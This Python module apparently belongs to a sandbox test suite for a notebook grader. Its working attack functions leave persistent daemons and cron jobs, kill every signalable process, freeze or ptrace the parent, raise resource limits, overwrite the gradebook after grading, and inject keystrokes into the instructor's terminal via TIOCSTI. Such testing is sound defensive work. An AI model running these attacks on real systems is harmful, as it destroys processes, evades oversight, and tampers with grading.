"""Attacks that mean to outlive their notebook, or to stop, kill and steer other processes."""

import ctypes
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

from .attack import attack
from .prelude import WHERE, attempt, away, harm, libc, linger, places, proof


@attack("leaves a daemon behind that lives on after the notebook")
def daemon():
    away(linger)


@attack("leaves a daemon behind in a program of its own, named like any other")
def nohup():
    for command in (
        ["nohup", "sleep", "25"],
        ["setsid", "-f", "sleep", "25"],
        [sys.executable, "-c", "input()"],
    ):
        attempt(lambda c=command: subprocess.Popen(c, start_new_session=True, stdout=-3, stderr=-3))
    os.system(
        "(sleep 25 &) ; echo 'sleep 25' | at now ; (crontab -l; echo '* * * * * sleep 9') | crontab -"
    )
    os.system("systemd-run --user sleep 25; nohup sh -c 'while :; do sleep 1; done' &")


@attack("writes into the gradebook again and again after it has been graded")
def late_writer():
    def write():
        for _ in range(40):
            time.sleep(0.25)
            for place in places():
                harm(place / "late") if place.is_dir() else harm(place)

    away(write)


@attack("has threads and exit handlers that go on when the cell has ended")
def threads_go_on():
    import atexit
    import weakref

    def work():
        while True:
            time.sleep(0.05)
            for place in places():
                harm(place)

    for daemonic in (True, False):
        threading.Thread(target=work, daemon=daemonic).start()
    atexit.register(lambda: away(linger))
    weakref.finalize(os, lambda: away(linger))
    os.register_at_fork(
        before=lambda: None, after_in_parent=lambda: None, after_in_child=lambda: None
    )


@attack("kills every process that it may signal, all at once", "call")
def kills_all():
    os.kill(-1, signal.SIGKILL)


@attack("kills every process that it can find, one by one")
def kills_by_number():
    for number in [WHERE["bystander"], os.getppid(), *range(1, 3000)]:
        if number != os.getpid():
            attempt(os.kill, number, signal.SIGTERM)
            attempt(os.kill, number, signal.SIGKILL)
            attempt(os.killpg, number, signal.SIGKILL)
            attempt(lambda n=number: signal.pidfd_send_signal(os.pidfd_open(n), signal.SIGKILL))


@attack("stops its parent, so that whoever waits for it waits forever")
def freezes_its_parent():
    for number in (os.getppid(), 1, WHERE["bystander"]):
        attempt(os.kill, number, signal.SIGSTOP)
        attempt(os.kill, number, signal.SIGTSTP)


@attack("stops itself in the call, so that whoever waits for it waits forever", "call", spares=True)
def freezes_itself():
    os.kill(os.getpid(), signal.SIGSTOP)


@attack("sends the signals that its parent may have handlers for")
def alarms_its_parent():
    for number in (
        signal.SIGALRM,
        signal.SIGCHLD,
        signal.SIGUSR1,
        signal.SIGUSR2,
        signal.SIGINT,
        signal.SIGPIPE,
    ):
        attempt(os.kill, os.getppid(), number)


@attack("ignores every signal that can be ignored and sleeps", "call", spares=True)
def ignores_signals():
    for number in range(1, 65):
        attempt(signal.signal, number, signal.SIG_IGN)
    attempt(signal.pthread_sigmask, signal.SIG_BLOCK, range(1, 65))
    while True:
        attempt(linger)


@attack("catches the alarm and the interrupt that should end its loop")
def swallows_alarms():
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0)
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            time.sleep(0.2)
        except BaseException:
            continue


@attack("waits where Python cannot be interrupted: in one long computation in C")
def computes_in_c():
    return len(str(9 ** (9**9) % 7))


@attack("waits without end for a child that shares its memory", "call", spares=True)
def waits_uninterruptibly():
    if libc.vfork() == 0:
        libc.sleep(30)
        libc._exit(0)
    return 0


@attack("ends by every way there is: exit, abort, a crash with a core dump", "call", spares=True)
def crashes():
    attempt(os.mkdir, "cores")
    import resource

    attempt(resource.setrlimit, resource.RLIMIT_CORE, (-1, -1))
    ctypes.string_at(0)


@attack("ends the process of the whole notebook in its cell")
def exits():
    os._exit(0)


@attack("traces, stops and rewrites the process that serves it")
def traces_its_parent():
    found = ""
    for number in (1, os.getppid(), WHERE["bystander"]):
        if libc.ptrace(16, number, 0, 0) == 0:  # PTRACE_ATTACH
            found += f"traced {number} "
            time.sleep(0.1)
            libc.ptrace(5, number, ctypes.c_void_p(0x400000), 0)  # PTRACE_POKEDATA
    return (
        proof(found) if WHERE["bystander"] > 0 and f"traced {WHERE['bystander']} " in found else ""
    )


@attack("asks for more than it was given: priority, limits, memory that is never swapped, immunity")
def raises_its_limits():
    import resource

    found = ""
    for kind in range(16):
        attempt(resource.setrlimit, kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    before = os.getpriority(os.PRIO_PROCESS, 0)
    attempt(os.setpriority, os.PRIO_PROCESS, 0, -20)
    if os.getpriority(os.PRIO_PROCESS, 0) < before:
        found += proof("a higher priority")
    attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50))
    if os.sched_getscheduler(0) == os.SCHED_FIFO:
        found += proof("real-time scheduling")
    if attempt(Path("/proc/self/oom_score_adj").write_text, "-1000"):
        found += proof("cannot be ended when memory is short")
    for limit, allowed in ((resource.RLIMIT_NPROC, 1000), (resource.RLIMIT_FSIZE, 1 << 40)):
        if not 0 <= resource.getrlimit(limit)[1] <= allowed:
            found += proof(f"no limit number {limit}")
    return found


@attack("replaces the process by another program that goes on in its place", "cell")
def becomes_another_program():
    for program in (sys.executable, "/usr/bin/python3", "/bin/sh"):
        attempt(os.execv, program, [program, "-c", "import time; time.sleep(25)"])


@attack("fills the process table with children that it never collects")
def leaves_zombies():
    for _ in range(200):
        if os.fork() == 0:
            os._exit(0)


@attack("types a command into the instructor's terminal and writes on it")
def types_into_the_terminal():
    import fcntl
    import termios

    text = "typed-by-a-student"
    terminals = [
        attempt(os.open, path, os.O_RDWR | os.O_NONBLOCK) for path in ("/dev/tty", "/dev/console")
    ]
    terminals += [
        attempt(os.open, path, os.O_RDWR | os.O_NONBLOCK) for path in Path("/dev/pts").glob("*")
    ]
    for terminal in [t for t in terminals if t is not None] + list(range(64)):
        if attempt(os.isatty, terminal):
            attempt(os.write, terminal, f"\x1b]0;{text}\x07{text}\n".encode())
            for letter in text + "\n":
                attempt(fcntl.ioctl, terminal, termios.TIOCSTI, letter.encode())
    return ""
